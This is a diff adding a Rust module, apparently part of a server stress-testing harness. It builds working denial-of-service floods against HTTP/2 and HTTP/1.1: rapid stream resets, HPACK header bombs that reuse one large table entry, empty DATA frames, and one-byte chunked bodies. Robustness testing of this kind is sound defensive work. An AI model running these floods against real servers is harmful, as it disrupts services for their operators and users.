@@ -1,0 +1,76 @@
+//! Work by framing: the smallest messages, frames, chunks and headers. Nothing is compressed, but for headers.
+
+use super::CHAT;
+use super::MANY;
+use super::MB;
+use crate::attack::Attack;
+use crate::attack::Flood;
+use crate::wire;
+
+/// Requests or frames per write.
+const BATCH: usize = 100;
+
+/// Bytes of the field that a header bomb refers to: the table's default size is 4,096, each entry has 32 more
+/// (RFC 7541, section 4.1).
+const ENTRY: usize = 4_000;
+
+/// References to it in one header block.
+const REFERENCES: usize = 16_000;
+
+pub(super) fn attacks() -> Vec<Attack> {
+    let mut all = Vec::new();
+    for connections in [1, MANY] {
+        let bytes = MB / connections;
+        all.push(Attack::flood("h2-resets", connections, resets(bytes)));
+        all.push(Attack::flood("h2-header-bombs", connections, header_bombs(bytes)));
+    }
+    all.push(Attack::flood("h2-empty-frames", 1, empty_frames()));
+    all.push(Attack::flood("h1-chunks", 1, chunks()));
+    all
+}
+
+fn http2(bytes: usize, batch: impl Fn(usize, usize) -> Vec<u8> + Send + Sync + 'static) -> Flood {
+    Flood { opening: wire::opening(&[]), opened: b"", batch: Box::new(batch), answer: 0, bytes, refused: false }
+}
+
+/// Streams that are reset at once.
+fn resets(bytes: usize) -> Flood {
+    http2(bytes, |_, number| {
+        let mut out = Vec::new();
+        for at in number * BATCH..(number + 1) * BATCH {
+            let stream = wire::stream(at);
+            out.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, stream, &wire::block(at, &[(":path", CHAT)])));
+            out.extend(wire::frame(wire::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+        }
+        out
+    })
+}
+
+/// Header blocks that refer to one large field again and again.
+fn header_bombs(bytes: usize) -> Flood {
+    http2(bytes, |_, number| {
+        let mut block = wire::block(0, &[(":path", CHAT)]);
+        block.extend(wire::added("x", &"x".repeat(ENTRY)));
+        block.extend(vec![wire::NEWEST; REFERENCES - block.len()]);
+        wire::frame(wire::HEADERS, wire::END_HEADERS | wire::END_STREAM, wire::stream(number), &block)
+    })
+}
+
+/// Frames of data without data.
+fn empty_frames() -> Flood {
+    http2(MB, |_, number| {
+        let mut out = Vec::new();
+        if number == 0 {
+            out.extend(wire::frame(wire::HEADERS, wire::END_HEADERS, 1, &wire::block(0, &[(":path", CHAT)])));
+        }
+        out.extend(wire::frame(wire::DATA, 0, 1, &[]).repeat(BATCH));
+        out
+    })
+}
+
+/// A body of chunks of one byte.
+fn chunks() -> Flood {
+    let opening = format!("POST {CHAT} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n");
+    let batch = |_, _| b"1\r\n \r\n".repeat(BATCH);
+    Flood { opening: opening.into_bytes(), opened: b"", batch: Box::new(batch), answer: 0, bytes: MB, refused: false }
+}
